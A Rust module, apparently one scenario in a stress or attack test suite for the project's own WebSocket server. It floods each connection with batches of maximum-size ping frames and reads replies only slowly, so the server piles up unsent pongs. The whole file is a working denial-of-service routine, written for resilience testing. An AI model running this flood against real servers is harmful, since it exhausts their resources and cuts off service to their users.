//! Websockets that send pings and take next to nothing of the pongs.

use std::time::Duration;

use futures_util::future::{FutureExt as _, join_all};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{Prepared, attacker::Attacker};
use crate::websocket::frame::{Kind, client_frame};

const SOCKETS: usize = 4;
/// As much as a ping may hold.
const PAYLOAD: [u8; 125] = [b'a'; 125];
/// How many are sent with one write.
const PINGS_A_WRITE: usize = 500;
/// Just enough is read that the peer does not seem to have stalled.
const READ_INTERVAL: Duration = Duration::from_secs(4);
const READ_BYTES: usize = 256;

pub(super) fn prepare(attacker: Attacker) -> Prepared {
    let pings = client_frame(Kind::Ping, &PAYLOAD).repeat(PINGS_A_WRITE);
    async move {
        join_all((0..SOCKETS).map(|_| flood(&attacker, &pings))).await;
    }
    .boxed_local()
}

async fn flood(attacker: &Attacker, pings: &[u8]) {
    loop {
        let Some(socket) = attacker.upgrade(attacker.connect_small().await).await else { continue };
        let (mut from_server, mut to_server) = socket.into_split();
        let write = async { while to_server.write_all(pings).await.is_ok() {} };
        let read = async {
            let mut buffer = [0; READ_BYTES];
            while matches!(from_server.read(&mut buffer).await, Ok(1..)) {
                tokio::time::sleep(READ_INTERVAL).await;
            }
        };
        tokio::select! {
            () = write => {}
            () = read => {}
        }
        attacker.note("socket ended");
    }
}
